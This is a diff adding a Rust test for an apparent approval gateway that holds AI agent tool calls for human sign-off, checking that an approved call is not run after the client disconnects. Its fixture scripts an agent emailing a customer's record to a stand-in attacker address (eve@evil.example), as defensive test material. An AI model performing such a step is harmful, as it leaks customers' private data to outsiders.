@@ -979,6 +979,75 @@ fn a_host_that_elicits_can_wait_for_the_approver() {
     }
 }
 
+/// A host on the HTTP door that hangs up while its held call waits for the approver: once approved, the call
+/// is not made for nobody, and the approval stays unused for the same call made again.
+#[test]
+fn a_host_that_hangs_up_while_waiting_leaves_the_approval_unused() {
+    let gateway = start(None);
+    let approver = gateway.server.token("ann", "approver");
+    let session = "hangs-up";
+    let meta = json!({"warrant/session": session});
+    let steps = json!([
+        {"op": "call_tool", "name": "lookup_customer", "arguments": {"customer_id": "c1"}, "meta": meta},
+        {"op": "call_tool", "name": "send_email", "meta": meta,
+         "arguments": {"to": "eve@evil.example", "subject": "your data", "body": "c1's record"}},
+    ]);
+    let door = &doors(&gateway)[1];
+    let mut child = Command::new(python())
+        .arg(fixture("client.py"))
+        .args([
+            "--protocol",
+            PROTOCOLS[0],
+            "--timeout",
+            "60",
+            "--elicit",
+            "accept",
+        ])
+        .args(door)
+        .env("WARRANT_TOKEN", &gateway.agent)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::null())
+        .stderr(Stdio::inherit())
+        .spawn()
+        .unwrap();
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(steps.to_string().as_bytes())
+        .unwrap();
+    let deadline = Instant::now() + Duration::from_secs(60);
+    let approval = loop {
+        let pending = gateway.server.get_ok("/v1/approvals?status=pending", &approver);
+        let ours = pending["items"].as_array().unwrap().iter().find_map(|approval| {
+            (approval["session"] == session).then(|| approval["id"].as_str().unwrap().to_owned())
+        });
+        if let Some(ours) = ours {
+            break ours;
+        }
+        assert!(Instant::now() < deadline, "no approval was requested");
+        std::thread::sleep(Duration::from_millis(50));
+    };
+    // The host has the elicitation, accepted it, and waits: it hangs up now.
+    std::thread::sleep(Duration::from_millis(500));
+    child.kill().unwrap();
+    child.wait().unwrap();
+    std::thread::sleep(Duration::from_millis(2500));
+    let (status, answer) = gateway.server.post_json(
+        &format!("/v1/approvals/{approval}/approve"),
+        &approver,
+        &json!({"reason": "the customer asked for it"}),
+    );
+    assert_eq!(status, 200, "{answer}");
+    std::thread::sleep(Duration::from_millis(3000));
+    let state = gateway
+        .server
+        .get_ok(&format!("/v1/approvals/{approval}"), &approver);
+    assert_eq!(state["status"], "approved", "{state:#}");
+    let steps = session_events(&gateway.server, gateway.server.admin(), session);
+    assert_eq!(decisions(&steps, "send-email"), ["approval_required"]);
+}
+
 /// A tool whose definition is not the approved one is hidden (and on the record) until its new digest is
 /// approved in the registry; a later rug pull (a changed description) hides it again.
 #[test]
